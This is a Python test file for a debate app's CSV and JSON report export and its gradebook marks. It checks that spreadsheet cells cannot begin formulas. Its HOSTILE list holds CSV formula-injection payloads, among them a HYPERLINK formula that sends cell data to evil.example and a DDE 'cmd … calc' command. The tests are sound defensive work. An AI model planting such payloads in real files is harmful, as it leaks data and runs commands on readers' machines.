"""The files of a report: tables that spreadsheets open as they are meant, and JSON that keeps its schema."""

import csv
import io
import unicodedata
from itertools import product

import pytest
from hypothesis import given
from hypothesis import strategies as st

from debate.subjects.results import gradebook
from debate.subjects.results.model import Share, TakenPart
from debate.web import spreadsheet

HOSTILE = [
    '=HYPERLINK("http://evil.example?"&A1;"click")',
    "+1+1",
    "-2+3",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠1",
    "﹣1",
    "−1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=cmd|' /C calc'!A0",
    '";=1+1;"',
    "<script>alert(1)</script>",
]


def read(data: bytes, separator: str = ",") -> list[list[str]]:
    """A CSV file as a spreadsheet reads it."""
    assert data.startswith(b"\xef\xbb\xbf"), "the mark that tells Excel of UTF-8"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=separator, strict=True))


@pytest.mark.parametrize("separator", spreadsheet.SEPARATORS)
def test_no_cell_begins_a_formula(separator):
    for text in HOSTILE:
        rows = read(b"".join(spreadsheet.table([[text, "next"]], separator)), spreadsheet.SEPARATORS[separator])
        [[cell, beside]] = rows
        assert beside == "next" and not cell.lstrip().startswith(tuple("=+-@＝＋－＠﹣−\t\r")), text


@pytest.mark.parametrize("told", spreadsheet.SEPARATORS)
def test_no_cell_begins_a_formula_in_a_program_that_was_told_of_another_separator(told):
    befores = [",", ";", "\n", "\r\n", ', "', ";\t", ",\u200b", "\n'"]
    for sign, before, separator in product(["=", "+", "-", "@", "＝", "−"], befores, spreadsheet.SEPARATORS):
        data = b"".join(spreadsheet.table([["first", 5, f"Well{before}{sign}1+1"], ["next", None, "last"]], separator))
        lines = csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=spreadsheet.SEPARATORS[told])
        found = [cell for row in lines for cell in row if cell.lstrip('" \u200b').startswith(sign)]
        assert not found, (sign, before, separator)


def test_every_letter_that_looks_like_the_beginning_of_a_formula_is_known():
    alike = {chr(n) for n in range(0x10000) if unicodedata.normalize("NFKC", chr(n))[:1] in set("=+-@")} | {"\u2212"}
    assert {char for char in alike if spreadsheet.safe(f"a,{char}1") != f"a,'{char}1"} == set()
    assert spreadsheet.safe("it is 2-3, or 4+5; e-mail me@home.") == "it is 2-3, or 4+5; e-mail me@home."


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), min_size=1, max_size=3))
def test_any_words_come_back_in_their_own_cells_without_what_cannot_be_seen(rows):
    for separator, sign in spreadsheet.SEPARATORS.items():
        back = read(b"".join(spreadsheet.table(rows, separator)), sign)
        assert back == [[spreadsheet.safe(cell) for cell in row] for row in rows]
        assert not {char for row in back for cell in row for char in cell} & set(
            "\x00\t\r\u202a\u202b\u202d\u202e\u2066\u2067"
        )


@pytest.mark.parametrize(
    "text", ["Zoë Ünver", "ليلى قالت: نعم", "👩‍👩‍👧 and 🇧🇷", "می‌خواهم", "two\nlines", 'she said "no"; twice, too']
)
def test_letters_of_all_alphabets_quotes_and_lines_stay_as_they_are(text):
    assert read(b"".join(spreadsheet.table([[text]], "comma"))) == [[text]]


def test_numbers_stay_numbers_and_nothing_stays_empty():
    assert b"".join(spreadsheet.table([["a", 5, None, 0]], "semicolon")) == '\ufeff"a";5;"";0\r\n'.encode()


@pytest.mark.parametrize(
    ("languages", "separator"),
    [
        ("en-GB,en;q=0.9", "comma"),
        ("de-AT,de;q=0.9,en;q=0.8", "semicolon"),
        ("pt-BR", "semicolon"),
        ("zz,*;q=0.5", "comma"),
        ("", "comma"),
    ],
)
def test_columns_are_apart_as_the_readers_excel_expects(languages, separator):
    assert spreadsheet.separator_for(languages) == separator


# --- the gradebook ------------------------------------------------------------------------


def taken(openings=(2, 2), rewrites=(0, 0)) -> TakenPart:
    return TakenPart(*(Share(*each) for each in ((2, 2), openings, (1, 2), (3, 5), rewrites)))


def test_a_mark_is_the_mean_by_weight_of_what_was_owed():
    weights = {"openings": 2, "rebuttals": 3, "judging": 1, "rewrites": 5}
    assert gradebook.mark(taken(), weights) == round((2 * 100 + 3 * 50 + 1 * 60) / 6), "no rewrite was owed"
    assert gradebook.mark(taken(rewrites=(0, 1)), weights) == round((2 * 100 + 3 * 50 + 1 * 60) / 11)
    assert gradebook.mark(taken(), {"rewrites": 1}) is None and gradebook.mark(taken(), {"openings": 0}) is None
    assert gradebook.mark(taken(openings=(1, 8)), {"openings": 1}) == 13, "halves go up"
    assert gradebook.mark(taken(openings=(2, 2, 0, 0, ["bare"])), {"openings": 1}) == 75, (
        "one without a reason counts half"
    )


@given(
    st.lists(st.tuples(st.integers(0, 9), st.integers(0, 9)), min_size=5, max_size=5),
    st.sampled_from(sorted(gradebook.PRESETS)),
)
def test_a_mark_lies_between_0_and_100_and_doing_more_never_lowers_it(shares, preset):
    weights = gradebook.PRESETS[preset]
    parts = [Share(done, done + missed) for done, missed in shares]
    before = gradebook.mark(TakenPart(*parts), weights)
    more = gradebook.mark(TakenPart(*(Share(one.done + (one.done < one.owed), one.owed) for one in parts)), weights)
    assert (before is None and more is None) or 0 <= before <= more <= 100


def test_a_query_chooses_columns_by_weight_or_by_a_preset():
    assert gradebook.read_weights({}) == (gradebook.DEFAULT, gradebook.PRESETS[gradebook.DEFAULT])
    assert gradebook.read_weights({"preset": "writing", "openings": "9"}).weights == gradebook.PRESETS["writing"]
    assert gradebook.read_weights({"openings": "30", "judging": "0"}) == ("", {"openings": 30, "judging": 0})
    assert gradebook.read_weights({"participation": " 1 "}).preset == "present"
    for wrong in ("101", "-1", "1.5", "²", "x", "9" * 400):
        with pytest.raises(gradebook.Rejected) as refusal:
            gradebook.read_weights({"openings": wrong})
        assert (refusal.value.code, refusal.value.field) == ("bad_option", "openings")
